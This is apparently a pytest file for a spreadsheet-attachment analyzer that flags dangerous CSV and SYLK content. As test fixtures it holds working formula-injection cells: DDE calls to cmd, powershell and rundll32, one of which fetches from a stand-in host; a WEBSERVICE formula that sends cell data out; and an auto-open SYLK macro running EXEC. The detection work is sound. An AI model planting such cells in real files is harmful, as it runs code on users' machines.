"""Tables in text: formulas that start programs or fetch, symbolic links, honest tables."""

from __future__ import annotations

import time

import pytest

from analyzers.attachments import table
from analyzers.attachments.table import UNIT
from analyzers.model.content import Link
from analyzers.model.document import MacroModule
from analyzers.model.observation import Observation, Severity
from tests.analyzers.attachments.observed import facts, findings, observe, survives

SLK = b"ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;E%s\r\nE\r\n"


def seen(data: bytes, kind: str = "csv") -> list[Observation]:
    return observe(UNIT, data, f"a.{kind}", kind)


@pytest.mark.parametrize(
    "data",
    [
        b"Name,Amount\r\nAnn,-12.50\r\nBob,+49 30 1234567\r\n- a note (see below),x\r\n",
        b'a,=SUM(A1:A9)\r\n"-1,5",=B1*2\r\n',
        b"pipe|separated|text\r\n=a|b\r\n",
        b"",
    ],
)
def test_honest_tables_have_no_findings(data: bytes) -> None:
    assert not findings(seen(data))


@pytest.mark.parametrize(
    ("cell", "severity"),
    [
        (b"=cmd|'/k calc.exe'!A0", Severity.CRITICAL),
        (b"x,\"@SUM(1+1)*cmd|'/c powershell iwr http://a.test/x'!A0\"", Severity.CRITICAL),
        (b"+rundll32|'URL.dll,OpenURL calc'!A", Severity.CRITICAL),
        (b"x;-2+3+cmd|' /C notepad'!A0", Severity.CRITICAL),
        (b"=Feed|'QUOTE'!EUR", Severity.MEDIUM),
    ],
)
def test_programs_started_by_cells(cell: bytes, severity: Severity) -> None:
    found = findings(seen(b"Name,Sum\r\nAnn,1\r\n" + cell + b"\r\n"))["table.formula.dde"]
    assert (found.severity, found.where) == (severity, "line 3")


def test_formulas_that_reach_out() -> None:
    found = seen(b'=WEBSERVICE("https://a.test/?x="&A1),1\r\n')
    assert findings(found)["table.formula.fetches"].severity is Severity.MEDIUM
    assert [link.url for link in found if isinstance(link, Link)] == ["https://a.test/?x="]


def test_a_symbolic_link_that_runs_macros() -> None:
    found = seen(SLK % b'EXEC("calc.exe")', "slk")
    assert {"table.macro", "table.macro.autoexec", "table.formula.runs"} <= set(findings(found))
    code = next(one.code for one in found if isinstance(one, MacroModule))
    assert 'row 101 column 1: =EXEC("calc.exe")' in code
    assert facts(found)["Formulas"] == "2"


def test_doubled_semicolons_belong_to_the_formula() -> None:
    found = findings(seen(SLK % b'CALL("a";;"b")', "slk"))
    assert '"a";"b"' in found["table.formula.runs"].evidence


def test_an_honest_symbolic_link_has_no_findings() -> None:
    assert not findings(seen(b"ID;PWXL;N;E\r\nC;X1;Y1;K5;ESUM(R1C1:R2C1)\r\nE\r\n", "slk"))


def test_wide_text_is_read() -> None:
    cell = "=cmd|'/c calc'!A0\r\n"
    assert "table.formula.dde" in findings(seen(cell.encode("utf-16")))


def test_what_was_not_read_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "limit.table" in findings(seen(b"=cmd|'/c a'!A0\r\n" * 100))
    monkeypatch.setattr(table, "READ", 10)
    assert "limit.table" in findings(seen(b"a,b,c,d\r\n" * 10))


def test_damage_never_escapes_and_size_stays_cheap() -> None:
    assert survives(UNIT, SLK % b'EXEC("calc.exe")', "slk", 100) == 100
    started = time.process_time()
    for data in (b"=" * 2_000_000, b"=a|" * 500_000, b"=cmd|'" * 300_000, b"a,=(" * 500_000):
        seen(data)
    assert time.process_time() - started < 6
